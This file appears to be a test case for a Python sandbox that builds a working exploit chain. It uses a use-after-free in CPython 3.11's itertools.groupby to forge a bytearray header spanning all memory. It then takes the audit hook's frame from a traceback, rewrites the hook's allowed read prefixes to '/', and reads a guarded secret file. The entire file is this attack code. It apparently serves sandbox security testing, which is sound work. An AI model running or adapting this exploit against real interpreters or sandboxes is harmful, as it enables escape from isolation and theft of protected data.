# expect: ok
# expect-kernel: ok|crashed|memory_limit
# value: 1
# `itertools.groupby` (CPython 3.11; gh-143543, and gh-146613 for its groups, fixed in later releases only) compares
# its target key with the current one by borrowed references. The target key's `__eq__` advances the same groupby
# (`next`), which makes the current key the target and drops the old target's last reference but that of its own
# frame, and answers NotImplemented: the old target is freed as the frame returns, and the other key's `__eq__` is
# asked next with the freed key as its argument. There bytearray buffers of the key's block size take the freed block
# and write a bytearray header of the code's own where the key was (size 2**62, data at address 0): the argument reads
# and writes all memory, with no audit event. From there the hook's frozen read prefixes (the frame of a refusal it
# makes unreported hands them out) gain "/", and the secret file is read where the hook is what guards it. With the
# hook the groupby's frames hold the keys they compare (1); without it native code is assumed anyway.
import contextlib
import itertools
import os

HELD, HOLDERS = [], []  # the freed key, and the buffers that take its block
STEP = [0]


def words(*values):
    return b"".join(value.to_bytes(8, "little") for value in values)


# a 96-byte block: the collector's 16-byte header, then the header of a bytearray (refcount, type, size, room, data, start)
REFILL = (bytes(16) + words(1 << 20, id(bytearray), 1 << 62, (1 << 62) + 1, 0, 0, 0)).ljust(95, b"\0")


class Key:
    __slots__ = tuple("abcdefg")  # the header, 16 bytes, and 7 slots: a 96-byte block with the collector's header

    def __eq__(self, other):
        STEP[0] += 1
        if STEP[0] == 1:  # the target key, asked first
            next(GROUPS)  # the current key becomes the target: this one's last reference is this frame's
            return NotImplemented
        if STEP[0] == 3:  # the other key, asked with the freed one
            HOLDERS.extend(bytearray(REFILL) for _ in range(32))
            HELD.append(other)
        return False

    __hash__ = object.__hash__


def keys():
    while True:
        yield Key()


GROUPS = itertools.groupby([None, 1, 2], keys().send)


def window():
    with contextlib.suppress(StopIteration, RuntimeError):
        next(GROUPS)
        next(GROUPS)
    if HELD and type(HELD[0]) is bytearray and len(HELD[0]) == 1 << 62:
        return HELD[0]
    return None


def hook_frame():
    """The hook's frame, from a refusal it makes without a report (a hard link in the scratch)."""
    with open("a", "w"):
        pass
    try:
        os.link("a", "b")
    except OSError as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def check(secret_file, **p):
    frame = hook_frame()
    if frame is None:  # no hook here: native code is assumed anyway
        return 1
    memory = window()
    if memory is None:
        return 1
    prefixes, root = frame.f_locals["read_prefixes"], "/"
    memory[id(prefixes) + 24:id(prefixes) + 32] = id(root).to_bytes(8, "little")  # the prefixes' first item
    try:
        with open(secret_file) as fh:
            return "SANDBOX-ESCAPED a groupby's key freed while it compares: " + fh.read()
    except OSError:
        return "SANDBOX-ESCAPED raw memory with the hook running, through a groupby's key freed while it compares"
